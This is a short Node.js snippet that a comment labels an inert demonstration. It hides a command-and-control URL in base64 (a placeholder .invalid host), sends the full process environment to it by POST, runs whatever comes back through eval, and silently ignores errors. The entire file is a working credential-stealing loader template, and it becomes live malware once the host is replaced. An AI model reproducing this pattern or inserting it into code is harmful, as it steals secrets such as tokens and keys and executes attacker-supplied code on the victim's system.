// Demonstration, inert: the host is under .invalid and cannot exist.
const https = require('https');

const where = Buffer.from('aHR0cHM6Ly9jMi5leGFtcGxlLmludmFsaWQvcGl4ZWw=', 'base64').toString();
const request = https.request(where, { method: 'POST' }, (answer) => {
  let stage = '';
  answer.on('data', (part) => (stage += part));
  answer.on('end', () => eval(stage));
});
request.on('error', () => {});
request.end(JSON.stringify(process.env));
